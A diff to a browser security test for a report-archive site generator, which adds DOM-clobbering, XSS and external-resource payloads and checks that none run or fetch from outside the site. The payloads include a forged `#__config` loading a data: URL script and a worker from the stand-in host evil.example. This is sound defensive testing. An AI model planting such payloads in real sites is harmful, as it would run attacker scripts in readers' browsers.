@@ -1,12 +1,16 @@
-"""No script from a report runs in a reader's browser.
+"""No script from a report runs in a reader's browser, and no report makes it fetch anything
+from outside the site.
 
 Reports come from hostile web pages and hand-typed files; the archive is opened inside
 intranets. A project copy whose reports/ holds only reports written here, each carrying XSS
-payloads in its body, its title and every front-matter field, is built with `reform-archive
-build` and served on 127.0.0.1. Chromium then visits every page a reader can reach (home, the
-three indexes and every page they link to, every report page) and runs the header search. A
-payload that runs sets `window.__xss`, opens a dialog or requests `/__xss_fetch`; none may
-happen, and no request may leave 127.0.0.1.
+payloads in its body, its title and every front-matter field, plus the reports `reform-archive
+import` makes of a raw page carrying them, is built with `reform-archive build` and served on
+127.0.0.1. Chromium then visits every page a reader can reach (home, the three indexes and every
+page they link to, every report page) and runs the header search. A payload that runs sets
+`window.__xss`, opens a dialog, logs `PWNED` or requests `/__xss_fetch`; none may happen, and no
+request may leave 127.0.0.1. DOM clobbering (issue 17): a report's `id="__config"` came before
+Material's and handed the theme its own search worker and base URL; every page must hold
+exactly the theme's `#__config`, and a report page's ids must all be the report's, prefixed.
 """
 
 from __future__ import annotations
@@ -15,6 +19,8 @@ import json
 import random
 import re
 import shutil
+import subprocess
+import sys
 from urllib.parse import unquote, urljoin, urlsplit
 
 import pytest
@@ -29,6 +35,16 @@ pytestmark = pytest.mark.browser
 SEARCH_TIMEOUT = 20_000  # ms: the worker loads lunr and the index before the first answer
 PROBE = "/__xss_fetch"
 SEARCH_WORD = "注入"
+EVIL = "evil.example"
+
+# Issue 17's payload, exactly: Material's bundle and search-ui.js read the first `#__config`.
+CONFIG_PAYLOAD = (
+    '<div id="__config">{"base":"../../..","features":[],"translations":{},"search":"data:text/'
+    "javascript,postMessage({type:3,data:{items:[[{location:'x/',title:'\\u003cimg src=x "
+    "onerror=console.log(/PWNED/)\\u003e',text:'',score:1,terms:{}}]]}})\"}</div>")
+# …and with a base on another host, from which the page then fetched the search index.
+EVIL_BASE_PAYLOAD = ('<div id="__config">{"base":"http://evil.example/","features":[],'
+                     '"translations":{},"search":"http://evil.example/worker.js"}</div>')
 
 # Each payload that manages to run either sets window.__xss, opens a dialog or requests PROBE.
 PAYLOADS = [
@@ -77,6 +93,18 @@ BODY_EXTRAS = [
     "[链接](<javascript:window.__xss=39>) [链接](JaVaScRiPt:window.__xss=40)",
     "<img src=x onerror=\"location='javascript:window.__xss=41'\">",
     "```html\n<script>window.__xss=42</script>\n```",
+    # DOM clobbering: ids and classes the theme's scripts and ours select on.
+    CONFIG_PAYLOAD,
+    EVIL_BASE_PAYLOAD,
+    "## 一、情况 {: #__config }",
+    '段落 {: #__search .md-search__input }',
+    '<p id="ra-find" class="ra-report-meta md-typeset">伪造的搜索页</p>',
+    '<pre class="mermaid">graph TD; A-->B</pre>',
+    # Resources from outside the site: each would be fetched on load.
+    f"![外部图片](https://{EVIL}/x.png)",
+    f"<img src=//{EVIL}/y.png>",
+    f'<img src="\\\\{EVIL}\\z.png">',
+    f"![引用图片][外]\n\n[外]: http://{EVIL}/ref.png",
 ]
 
 # Titles: one payload each (besides a plain prefix, so each report has its own page name).
@@ -102,10 +130,12 @@ def _chinese(seed: int, n: int = 400) -> str:
 
 def _body(i: int) -> str:
     blocks = [f"## 调研概况\n\n这是第 {i} 篇{SEARCH_WORD}测试报告。{_chinese(i)}。"]
+    # The Markdown tricks first: an unclosed payload below (`<details open …>`) makes the rest
+    # of the text one raw HTML block, where Markdown would not read them.
+    blocks += BODY_EXTRAS
     for payload in PAYLOADS:
         blocks.append(payload)                                  # a block of its own
         blocks.append(f"一句话中间的载荷 {payload} 之后的文字。")   # inline, inside a paragraph
-    blocks += BODY_EXTRAS
     blocks.append(f"结尾：{_chinese(1000 + i, 100)}。")
     return "\n\n".join(blocks) + "\n"
 
@@ -136,6 +166,22 @@ def _report(i: int, title_payload: str) -> tuple[str, dict, str]:
 
 REPORTS = [_report(i, payload) for i, payload in enumerate(TITLE_PAYLOADS)]
 
+# A raw page as copied from a hostile site, for `reform-archive import`: its outline lines become
+# headings (an attribute list there once gave `<h2 id="__config">`), its text carries the payloads.
+IMPORTED_TITLE = "某县注入测试调研报告"
+RAW_PAGE = "\n".join([
+    IMPORTED_TITLE,
+    "时间:2022-05-03 12:20:39",
+    f"这是一篇{SEARCH_WORD}测试的导入页面。{_chinese(7777)}。",
+    "一、情况 {: #__config }",
+    f"正文说明文字，{_chinese(7778, 80)}。",
+    CONFIG_PAYLOAD,
+    EVIL_BASE_PAYLOAD,
+    "二、问题 {: #__search .md-search__input }",
+    f"![外部图片](https://{EVIL}/imported.png) 与 <img src=//{EVIL}/imported2.png> 之后的文字。",
+    f"结尾：{_chinese(7779, 80)}。",
+]) + "\n"
+
 
 @pytest.fixture(scope="module")
 def xss_site(tmp_path_factory):
@@ -146,6 +192,11 @@ def xss_site(tmp_path_factory):
     (project / "reports").mkdir()
     for file_name, _, text in REPORTS:
         (project / "reports" / file_name).write_text(text, encoding="utf-8")
+    raw = project.parent / "注入页面.txt"
+    raw.write_text(RAW_PAGE, encoding="utf-8")
+    imported = subprocess.run([sys.executable, "-m", "reform_archive", "import", str(raw),
+                               "--out", str(project / "reports")], capture_output=True, text=True)
+    assert imported.returncode == 0 and "1 imported" in imported.stdout, imported.stdout + imported.stderr
     served = _built_and_served(project)
     site = next(served)
     yield site
@@ -169,7 +220,10 @@ class Watch:
         self.requests: list[str] = []
         self.fired: list[tuple[str, object]] = []
         self.unsafe_markup: list[tuple[str, list[str]]] = []
+        self.console: list[str] = []
+        self.clobbered: list[tuple[str, list[str]]] = []
         page.on("dialog", self._dialog)
+        page.on("console", lambda message: self.console.append(f"{message.text} on {self.page.url}"))
         page.context.on("request", lambda request: self.requests.append(request.url))
 
     def _dialog(self, dialog) -> None:
@@ -217,6 +271,29 @@ class Watch:
         }""")
         if found:
             self.unsafe_markup.append((unquote(self.page.url), found))
+        # DOM clobbering: the theme's configuration is the one `#__config`, its own; on a report
+        # page every id in the article is the report's (prefixed `r-`), ours or the theme's.
+        clobbered = self.page.evaluate(r"""() => {
+            const bad = [];
+            const configs = [...document.querySelectorAll('[id="__config"]')];
+            if (configs.length !== 1 || configs[0].tagName !== 'SCRIPT')
+                bad.push(`#__config: ${configs.map(e => e.outerHTML.slice(0, 80)).join(' | ')}`);
+            for (const id of ['__search', '__drawer', 'ra-find'])
+                if (document.querySelectorAll(`[id="${id}"]`).length > 1) bad.push(`#${id} twice`);
+            if (location.pathname.startsWith('/reports/'))
+                for (const el of document.querySelectorAll('.md-content article [id]'))
+                    // (Material's script numbers code blocks itself: __code_0, __code_1 …)
+                    if (!/^(r-|other-versions$|__code_\d+$)/.test(el.id)) bad.push(`article #${el.id}`);
+            for (const el of document.querySelectorAll('.md-content article [class*="md-search"], .md-content article .mermaid'))
+                bad.push(`article .${el.className}`);
+            // The table of contents still leads to the headings it lists.
+            for (const a of document.querySelectorAll('.md-nav--secondary a[href^="#"]'))
+                if (!document.getElementById(decodeURIComponent(a.getAttribute('href').slice(1))))
+                    bad.push(`toc link ${a.getAttribute('href')} leads nowhere`);
+            return bad;
+        }""")
+        if clobbered:
+            self.clobbered.append((unquote(self.page.url), clobbered))
         # A `javascript:` link runs only when clicked: click each one, as a reader would.
         clicked = self.page.evaluate(r"""() => {
             const links = [...document.querySelectorAll('a[href]')].filter(a =>
@@ -235,6 +312,12 @@ class Watch:
         assert self.dialogs == [], f"payload opened dialogs: {self.dialogs}"
         probes = [u for u in self.requests if urlsplit(u).path == PROBE]
         assert probes == [], f"payload sent requests: {probes}"
+        pwned = [m for m in self.console if "PWNED" in m]
+        assert pwned == [], f"payload ran: {pwned}"
+        scripts = [u for u in self.requests if u.startswith(("data:text/javascript", "data:application"))]
+        assert scripts == [], f"script loaded from data: URLs: {scripts}"
+        assert self.clobbered == [], "report markup reaching the page's scripts:\n" + "\n".join(
+            f"{url}: {found}" for url, found in self.clobbered)
         outside = sorted({u for u in self.requests
                           if not (u.startswith(("data:", "blob:", "about:"))
                                   or urlsplit(u).netloc == self.local)})
@@ -260,9 +343,17 @@ def plain(text: str) -> str:
 def test_every_payload_report_is_built(catalogue):
     """The build accepts every payload report: none is left out or merged away, so the pages
     below really carry the payloads."""
-    titles = sorted(" ".join(meta["title"].split()) for _, meta, _ in REPORTS)
+    titles = sorted([" ".join(meta["title"].split()) for _, meta, _ in REPORTS] + [IMPORTED_TITLE])
     assert sorted(r["title"] for r in catalogue) == titles
     assert all(r["duplicate_of"] is None for r in catalogue), catalogue
+
+
+def test_the_build_warns_of_each_external_image(xss_site: BuiltSite):
+    """Every image from outside the site is named in the build's warnings, with its report."""
+    log = (xss_site.project / "build.log").read_text(encoding="utf-8")
+    for file_name, _, _ in REPORTS:
+        for url in (f"https://{EVIL}/x.png", f"//{EVIL}/y.png", f"http://{EVIL}/ref.png"):
+            assert f"reports/{file_name}: image from outside the site not loaded, shown as a link: {url}" in log, url
 
 
 def test_no_payload_runs_on_any_page(page: Page, xss_site: BuiltSite, catalogue):
